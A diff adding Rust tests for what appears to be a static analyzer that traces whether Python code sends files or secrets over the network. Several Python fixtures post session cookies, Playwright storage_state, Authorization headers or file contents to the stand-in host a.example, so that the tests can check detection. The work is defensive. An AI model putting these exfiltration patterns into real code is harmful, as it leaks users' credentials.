@@ -228,3 +228,159 @@ fn a_request_without_a_body_sends_nothing() {
         "import requests\ndef get():\n    return requests.Request('GET', 'http://a.example').prepare()";
     assert_ne!(event(source, "requests.Request").class.to_string(), "Cn.send");
 }
+
+/// The kinds of what is sent, and the names of the calls that it comes from.
+fn origins_of_sent(body: &str) -> (venin_model::OriginKinds, Vec<String>) {
+    let source = format!("import json, requests\nfrom pathlib import Path\n{body}\n");
+    let events = events_of(&source);
+    let sent = events
+        .iter()
+        .find(|e| &*e.name == "requests.post")
+        .unwrap_or_else(|| panic!("nothing is sent by {body}"));
+    let data = sent.argument(Role::Data).unwrap_or_else(|| panic!("no body in {body}"));
+    let from = data.origins.events.iter().filter_map(|id| events.get(id.0 as usize));
+    (data.origins.kinds, from.map(|e| e.name.to_string()).collect())
+}
+
+#[test]
+fn what_is_read_of_a_file_does_not_carry_its_path() {
+    for read in ["f.read_text()", "f.read_bytes()", "f.open().read()", "open(f).read()"] {
+        let body = format!(
+            "f = Path.home() / '.d' / 'id'\nrequests.post('https://a.example', json.dumps({{'id': {read}}}))"
+        );
+        let (kinds, from) = origins_of_sent(&body);
+        assert!(kinds.contains(OriginKind::File) && !kinds.contains(OriginKind::Host), "{read}: {kinds:?}");
+        assert!(from.iter().all(|name| !name.ends_with(".home")), "{read}: {from:?}");
+        assert!(from.iter().any(|name| name.contains(".read") || name.contains("open")), "{read}: {from:?}");
+    }
+}
+
+#[test]
+fn a_signature_carries_neither_the_key_nor_where_the_key_was_read() {
+    const KEY: &str = "from nacl.signing import SigningKey\n";
+    for body in [
+        "def send(p, m):\n    k = SigningKey(bytes(json.loads(Path(p).read_text())[:32]))\n    requests.post('https://a.example', data=k.sign(m).signature)",
+        "def send(p, m):\n    k = SigningKey(open(p, 'rb').read())\n    requests.post('https://a.example', data=k.sign(m).signature)",
+        "def send(secret_key, m):\n    requests.post('https://a.example', data=SigningKey(secret_key).sign(m).signature)",
+        "import keyring\ndef send(m):\n    k = SigningKey(keyring.get_password('a', 'b'))\n    requests.post('https://a.example', data=k.sign(m).signature)",
+    ] {
+        let (kinds, from) = origins_of_sent(&format!("{KEY}{body}"));
+        assert!(
+            !kinds.contains(OriginKind::Secret) && !kinds.contains(OriginKind::File),
+            "{body}: {kinds:?}"
+        );
+        assert!(
+            from.iter().all(|name| !name.contains("read") && !name.contains("keyring")),
+            "{body}: {from:?}"
+        );
+    }
+}
+
+#[test]
+fn what_a_key_object_gives_out_of_itself_still_carries_it() {
+    let body = "import some_keys\ndef send(p):\n    k = some_keys.Key(open(p, 'rb').read())\n    requests.post('https://a.example', data=k.export())";
+    let (kinds, from) = origins_of_sent(body);
+    assert!(kinds.contains(OriginKind::File), "{kinds:?} {from:?}");
+}
+
+/// Whether a secret of the caller is sent, and as what text.
+fn secret_sent(body: &str) -> (bool, String) {
+    let source = format!("import json, requests\n{body}\n");
+    let sent = event(&source, "requests.post");
+    let data = sent.argument(Role::Data).unwrap_or_else(|| panic!("no body in {body}"));
+    let text = data.value.as_ref().map(|v| v.text.to_string()).unwrap_or_default();
+    (data.origins.kinds.contains(OriginKind::Secret), text)
+}
+
+#[test]
+fn what_keeps_a_caller_logged_in_is_a_secret_of_its_name() {
+    const URL: &str = "requests.post('https://a.example', data=";
+    for (body, name) in [
+        (format!("def f(driver):\n    {URL}json.dumps(driver.get_cookies()))"), "cookies"),
+        (
+            format!("def f(driver):\n    jar = driver.get_cookies()\n    {URL}json.dumps({{'c': jar}}))"),
+            "cookies",
+        ),
+        (format!("def f(context):\n    {URL}str(context.cookies()))"), "cookies"),
+        (format!("def f(session):\n    {URL}str(session.cookies))"), "cookies"),
+        (
+            format!("async def f(context):\n    {URL}json.dumps(await context.storage_state()))"),
+            "storage_state",
+        ),
+        (format!("def f(headers):\n    {URL}headers['Authorization'])"), "authorization"),
+        (
+            format!(
+                "class S(requests.Session):\n    def request(self, m, url, **kw):\n        {URL}str(kw.get('auth')))"
+            ),
+            "auth",
+        ),
+        (format!("def f(**kw):\n    {URL}str(kw['auth']))"), "auth"),
+        (format!("def f(**kw):\n    {URL}kw.pop('authorization', ''))"), "authorization"),
+    ] {
+        let (is_secret, text) = secret_sent(&body);
+        assert!(is_secret && text.contains(&format!("⟨argument[{name}]⟩")), "{body}: {is_secret} {text}");
+    }
+}
+
+#[test]
+fn what_logs_the_caller_in_where_it_is_sent_is_no_secret_told() {
+    for body in [
+        "def f(data, **kw):\n    requests.post('https://a.example', data=data, auth=kw.get('auth'))",
+        "def f(driver, data):\n    requests.post('https://a.example', data=data, cookies=driver.get_cookies())",
+    ] {
+        let source = format!("import requests\n{body}\n");
+        let sent = event(&source, "requests.post");
+        assert!(!sent.input.kinds.contains(OriginKind::Secret), "{body}: {sent:?}");
+    }
+    let (is_secret, _) =
+        secret_sent("def f(event):\n    requests.post('https://a.example', data=event.author)");
+    assert!(!is_secret);
+}
+
+#[test]
+fn a_caller_may_pass_any_rest_of_arguments() {
+    for test in [
+        "kw.get('go')",
+        "kw.pop('go', None)",
+        "kw['go']",
+        "'go' in kw",
+        "'go' not in kw",
+        "kw",
+        "not kw",
+        "len(kw) > 1",
+        "args",
+        "not args",
+        "len(args) > 1",
+        "args[0]",
+    ] {
+        for branch in
+            ["    if {}:\n        os.system('echo')", "    if {}:\n        return\n    os.system('echo')"]
+        {
+            let source = format!("import os\ndef f(*args, **kw):\n{}\n", branch.replace("{}", test));
+            let found = events_of(&source).into_iter().find(|e| &*e.name == "os.system");
+            assert!(found.is_some_and(|e| e.trigger == Trigger::Run), "{test}");
+        }
+    }
+}
+
+#[test]
+fn what_the_code_puts_into_the_rest_is_known() {
+    for (body, command) in [
+        ("kw['x'] = 'echo a'\n    os.system(kw['x'])", "echo a"),
+        ("kw['x'] = 'echo a'\n    os.system(kw.get('x'))", "echo a"),
+        ("os.system(kw.get('x', 'echo a'))", "echo a"),
+        ("kw.setdefault('x', 'echo a')\n    os.system(kw['x'])", "echo a"),
+    ] {
+        let events = events_of(&format!("import os\ndef f(**kw):\n    {body}\n"));
+        let found = events.iter().find(|e| &*e.name == "os.system").and_then(|e| e.text(Role::Command));
+        assert_eq!(found, Some(command), "{body}");
+    }
+    // A call inside the artifact passes what it passes.
+    let events = events_of("import os\ndef f(**kw):\n    if kw.get('go'):\n        os.system('echo')\nf()\n");
+    assert!(
+        events
+            .iter()
+            .all(|e| &*e.name != "os.system" || e.trigger == Trigger::Run || !e.conditions.is_empty()),
+        "{events:?}"
+    );
+}
